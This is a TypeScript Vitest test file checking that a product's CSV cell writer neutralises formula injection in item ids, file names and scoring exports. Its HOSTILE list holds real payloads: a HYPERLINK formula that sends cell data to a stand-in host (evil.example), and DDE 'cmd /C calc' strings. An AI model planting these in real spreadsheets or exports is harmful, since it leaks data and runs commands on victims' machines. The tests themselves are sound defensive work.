// CSV formula injection (issue 12, finding 8): every CSV the product writes goes through one cell
// writer, so a file named "=HYPERLINK(...)" or a username "@SUM(...)" reaches a spreadsheet as
// text, in the research comparison, the score results and the audit export alike.
import { describe, expect, it } from 'vitest';
import type { Comparison, RunSummary } from '../../contract';
import { comparisonCsv, type StoredResult } from '../research/compare';
import { scoreRow } from '../../cli/commands/score';
import { csvCell, csvDocument } from '.';

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
/** What a spreadsheet would run: a cell (after CSV unquoting) that starts with a formula character. */
const runnable = (line: string): boolean => parseLine(line).some((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d/.test(c));

function parseLine(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let q = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (q) {
      if (ch === '"' && line[i + 1] === '"') (cur += '"'), i++;
      else if (ch === '"') q = false;
      else cur += ch;
    } else if (ch === '"') q = true;
    else if (ch === ',') out.push(cur), (cur = '');
    else cur += ch;
  }
  out.push(cur);
  return out;
}

describe('the one CSV cell writer', () => {
  it('neutralises formula text and quotes as CSV needs; numbers stay numbers', () => {
    for (const h of HOSTILE) {
      expect(csvCell(h).startsWith(`"'`)).toBe(true);
      expect(parseLine(csvCell(h))).toEqual(["'" + h]);
    }
    expect(csvCell(-0.031)).toBe('-0.031');
    expect(csvCell('-0.031')).toBe('-0.031'); // a signed difference printed as text
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(null)).toBe('');
    expect(csvDocument(['x'], [[1], ['=2']])).toBe(`x\r\n1\r\n"'=2"\r\n`);
  });

  it('the research comparison CSV carries hostile item ids as text', () => {
    const run = { settings: { classes: ['glioma', 'notumor'] } } as unknown as RunSummary;
    const c = { a: run, b: run, table: [{ metric: '=1+1', a: '0.9', b: '0.8', diff: '-0.1' }], mcnemar: { pValue: 0.5, method: 'exact', b: 1, c: 2 }, bootstrap: { diff: { value: 0.01, lo: -0.02, hi: 0.04 } } } as unknown as Comparison;
    const results: StoredResult[] = HOSTILE.map((h, idx) => ({ idx, itemId: h, truth: '@truth', ok: true, label: 'glioma', confidence: 0.9, probs: { glioma: 0.9, notumor: 0.1 }, dice: null, ms: 1, error: null }));
    const csv = comparisonCsv(c, results, results);
    const lines = csv.split('\n').filter((l) => l !== '');
    expect(lines.filter(runnable)).toEqual([]);
    expect(csv).toContain('-0.1'); // the difference is still a number to the spreadsheet
  });

  it('the score results CSV carries hostile file names as text', () => {
    for (const h of HOSTILE) {
      const line = scoreRow({ file: '/x', rel: h, truth: null } as never, {
        ok: true,
        result: { label: 'glioma', probabilities: { glioma: 1 }, confidence: 1, mask: { areaPx: 0 }, width: 1, height: 1, modelId: '=m', modelVersion: '1', runtime: 'r', ms: 1 },
      } as never);
      expect(runnable(line), line).toBe(false);
    }
  });
});
